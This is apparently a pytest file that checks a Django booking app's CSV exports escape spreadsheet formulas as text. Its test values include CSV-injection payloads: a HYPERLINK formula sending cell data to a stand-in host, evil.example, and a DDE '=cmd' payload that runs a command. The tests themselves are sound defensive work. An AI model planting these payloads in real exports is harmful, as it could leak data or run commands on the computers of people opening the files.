"""The exports write what people typed as text, never as a formula a
spreadsheet would run (centre.csv_export)."""

import csv
import io
from http import HTTPStatus

import pytest
from django.urls import reverse

from centre.csv_export import cell
from seasons import services
from tests.factories import close_applications, season_round, wish

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Kvindeforum")', "'=HYPERLINK("),
        ("=cmd|' /C calc'!A0", "'=cmd"),
        ("+45 58 35 00 00", "'+45"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        # Numbers as centre.csv_export.number writes them stay numbers.
        ("-1,5", "-1,5"),
        ("-1.5", "-1.5"),
        ("-12", "-12"),
        ("Kvindeforum", "Kvindeforum"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value, written):
    result = cell(value)
    if isinstance(written, str) and written.startswith("'"):
        assert result == "'" + value and result.startswith(written)
    else:
        assert result == written


def test_a_wish_title_reaches_the_decisions_export_as_text(
    room, booker, actor, coordinator, coordinator_client
):
    round_ = season_round([room], open_now=True)
    title = "=cmd|' /C calc'!A0"
    services.application_save(
        by=booker, round_=round_, actor=actor, wishes=[wish(title=title, room=room)]
    )
    services.proposal_make(by=coordinator, round_=close_applications(round_))
    response = coordinator_client.get(reverse("seasons:decisions-csv", args=[round_.pk]))
    assert response.status_code == HTTPStatus.OK
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))  # Danish: a semicolon
    assert rows[1][2] == "'" + title
    assert all(not value.startswith(("=", "+", "@")) for row in rows for value in row)


def test_an_actor_named_like_a_formula_reaches_the_room_use_export_as_text(
    room, actor, member, coordinator_client
):
    from tests.factories import BookingFactory, in_days

    actor.name = '=HYPERLINK("http://evil.example/?"&A1,"Kvindeforum")'
    actor.save()
    BookingFactory(room=room, actor=actor, booked_by=member, start=in_days(0, 10))
    response = coordinator_client.get(reverse("bookings:room-use-csv"), {"period": "month"})
    assert response.status_code == HTTPStatus.OK
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = [value for row in rows for value in row if "HYPERLINK" in value]
    assert names and all(value == "'" + actor.name for value in names)
